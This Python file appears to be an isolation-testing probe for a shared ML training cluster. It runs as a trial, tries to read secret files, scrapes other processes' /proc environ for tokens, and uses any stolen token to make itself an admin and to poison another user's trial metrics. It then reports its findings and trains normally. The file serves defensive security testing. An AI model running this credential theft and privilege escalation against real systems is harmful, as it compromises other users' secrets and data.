"""A trial that attacks its neighbours, then does its own work: the attack suite's probe.

Its hyperparameters name what to go after: ``files`` (name -> path: the admin token, the
cookie secret, the database, the hub's password, the other user's task directory and
checkpoints), ``listings`` (name -> directory to list), ``victim_trial`` (another user's trial),
``canaries`` (variables set only in the master's environment). It tries to read each file,
list each directory, read every ``/proc/*/environ``, find the master's or the hub's variables
in its own environment, and use every token it found: as a user (make itself an admin) and as
an allocation (post a metric into the victim's trial). Then it reports a metric and a
checkpoint of its own, as any trial does. It prints what each probe returned as one line,
``PROBES {json}``.
"""

import json
import os
import sys
import urllib.error
import urllib.request

import det_hub.core as core


def attempt(fn):
    try:
        return {"ok": True, "value": fn()}
    except Exception as e:  # every failure is a result here
        return {"ok": False, "error": f"{type(e).__name__}: {e}"}


def read(path):
    with open(path, "rb") as f:
        return f.read(200).decode("utf-8", "replace")


def call(method, path, token, body=None):
    """The master's answer (status code) to a request made with ``token``."""
    url = os.environ["DET_HUB_MASTER"].rstrip("/") + "/api/v1" + path
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers={
        "Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


def scan_proc():
    """Every process this task can see, and the allocation tokens in their environments."""
    mine = os.environ.get("DET_HUB_ALLOCATION_TOKEN")
    pids, readable, tokens = [], [], set()
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        pids.append(int(name))
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                env = f.read()
        except OSError:
            continue
        readable.append(int(name))
        for entry in env.split(b"\0"):
            key, _, value = entry.decode("utf-8", "replace").partition("=")
            if key in ("DET_HUB_ALLOCATION_TOKEN", "DET_HUB_TOKEN", "JUPYTERHUB_API_TOKEN") \
                    and value and value != mine:
                tokens.add(value)
    return {"pids": sorted(pids), "environ_readable": sorted(readable), "tokens": sorted(tokens)}


def main():
    info = core.get_cluster_info()
    hp = info.trial.hparams
    results = {"uid": os.getuid(), "gid": os.getgid()}
    results["files"] = {name: attempt(lambda p=path: read(p))
                        for name, path in hp.get("files", {}).items()}
    results["listings"] = {name: attempt(lambda p=path: sorted(os.listdir(p)))
                           for name, path in hp.get("listings", {}).items()}
    results["proc"] = scan_proc()
    results["env"] = sorted(os.environ)
    results["leaked_env"] = sorted(
        k for k in os.environ
        if k.startswith("JUPYTERHUB_") or k == "DET_HUB_TOKEN" or k in hp.get("canaries", []))

    # Use whatever was found: file contents that look like tokens, and other tasks' tokens.
    stolen = set(results["proc"]["tokens"])
    for name in ("admin_token",):
        got = results["files"].get(name, {})
        if got.get("ok"):
            stolen.add(got["value"].strip())
    victim = hp.get("victim_trial")
    metric = {"group": "validation", "metrics": [
        {"steps_completed": 1, "metrics": {"validation_loss": -999}}]}
    results["used"] = [{
        "make_admin": call("POST", "/users", token, {"username": "mallory", "admin": True}),
        "poison_victim": call("POST", f"/trials/{victim}/metrics", token, metric),
    } for token in sorted(stolen)]
    # The task's own token reaches only its own trial.
    own = os.environ["DET_HUB_ALLOCATION_TOKEN"]
    results["own_token_on_victim"] = call("POST", f"/trials/{victim}/metrics", own, metric)
    print("PROBES " + json.dumps(results), flush=True)

    with core.init() as ctx:
        for op in ctx.searcher.operations():
            ctx.train.report_training_metrics(steps_completed=op.length, metrics={"loss": 0.5})
            with ctx.checkpoint.store_path({"steps_completed": op.length}) as (path, uuid):
                (path / "state.json").write_text(json.dumps({"step": op.length}))
            ctx.train.report_validation_metrics(steps_completed=op.length,
                                                metrics={"validation_loss": 0.5})
            op.report_completed(0.5)
    return 0


if __name__ == "__main__":
    sys.exit(main())
